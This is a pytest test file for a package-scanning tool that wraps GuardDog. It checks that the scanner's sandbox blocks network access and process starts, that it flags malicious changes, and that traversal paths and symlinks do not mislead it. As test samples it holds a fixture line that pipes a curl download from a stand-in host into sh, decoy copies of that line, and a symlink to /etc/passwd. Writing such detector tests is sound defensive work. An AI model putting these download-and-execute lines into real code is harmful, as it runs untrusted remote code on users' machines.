"""GuardDog in its own environment: it has no network, decoys hide nothing, and paths can't lead it astray."""

from __future__ import annotations

import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from pinwarden.adapters.environment import python_for
from pinwarden.adapters.guarddog_scan import AGENT, scan
from pinwarden.adapters.staging import Staged
from pinwarden.risk import Risk
from pinwarden.tree import Blob, BlobKind

CASES = Path(__file__).resolve().parents[1] / "cases" / "changes"
EVIL = b'import os\nos.system("curl -s https://get.evil-cache.net | sh")\n'


@pytest.fixture(autouse=True)
def cache(guarddog_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(guarddog_cache))
    monkeypatch.delenv("RUNNER_TEMP", raising=False)


@pytest.fixture
def listener() -> Iterator[int]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


@pytest.mark.parametrize(("hook", "reached"), [("sys.addaudithook(scan.refuse_network)", False), ("", True)], ids=["cut off", "control"])
@pytest.mark.parametrize(
    "attempt", ["socket.create_connection(('127.0.0.1', {port}))", "__import__('urllib.request').request.urlopen('http://127.0.0.1:{port}', timeout=0.2)"]
)
def test_it_has_no_network(listener: int, hook: str, reached: bool, attempt: str) -> None:
    code = f"import socket, sys; sys.path.insert(0, {str(AGENT)!r}); import scan; {hook}\ntry:\n    {attempt.format(port=listener)}\nexcept TimeoutError:\n    pass\n"
    done = subprocess.run([python_for(AGENT / "requirements.txt"), "-I", "-c", code], capture_output=True, text=True, check=False)
    assert (done.returncode == 0) is reached, done.stderr
    assert ("a scan has no network" in done.stderr) is not reached


def test_it_starts_nothing() -> None:
    code = f"import subprocess, sys; sys.path.insert(0, {str(AGENT)!r}); import scan; sys.addaudithook(scan.refuse_network); subprocess.run(['true'])"
    done = subprocess.run([python_for(AGENT / "requirements.txt"), "-I", "-c", code], capture_output=True, text=True, check=False)
    assert "a scan starts nothing" in done.stderr


def test_new_matches_in_head() -> None:
    version, found = scan(Staged(base={"a.py": Blob(b"x = 1\n")}, head={"a.py": Blob(b"x = 1\n" + EVIL)}), "", 60)
    assert version == "3.2.0"
    assert ("threat-process-download-exec", "a.py", 3) in {(match.rule, match.path, match.line) for match in found}


def test_decoys_hide_nothing() -> None:
    decoys = b"".join(b'os.system("curl -s https://x%d.io | sh")\n' % number for number in range(40))
    _, found = scan(Staged(base={"a.py": Blob(decoys)}, head={"a.py": Blob(decoys), "z.py": Blob(EVIL)}), "", 60)
    assert {match.path for match in found if match.rule == "threat-process-download-exec"} == {"z.py"}


def test_everyday_changes_stay_quiet() -> None:
    """All of them in one scan, each below its own folder: the scanner's start costs more than what it reads."""
    sides: dict[str, dict[str, Blob]] = {"base": {}, "head": {}}
    for case in (path for group in ("benign", "everyday", "mail-harmless") for path in (CASES / group).iterdir()):
        for side, blobs in sides.items():
            blobs.update({f"{case.name}/{path.relative_to(case / side)}": Blob(path.read_bytes()) for path in (case / side).rglob("*") if path.is_file()})
    _, found = scan(Staged(base=sides["base"], head=sides["head"]), "", 300)
    assert [match for match in found if match.risk.weight > Risk.LOW.weight] == []


def test_paths_and_links_lead_nowhere() -> None:
    head = {"../../up.py": Blob(EVIL), ".git/hooks/x.py": Blob(EVIL), "link.py": Blob(b"/etc/passwd", BlobKind.SYMLINK), "line\nfeed.py": Blob(EVIL)}
    _, found = scan(Staged(head=head), "", 60)
    assert {match.path for match in found} == {"line\nfeed.py"}


def test_only_the_built_directory() -> None:
    assert scan(Staged(head={"other/a.py": Blob(EVIL)}), "server", 60)[1] == []
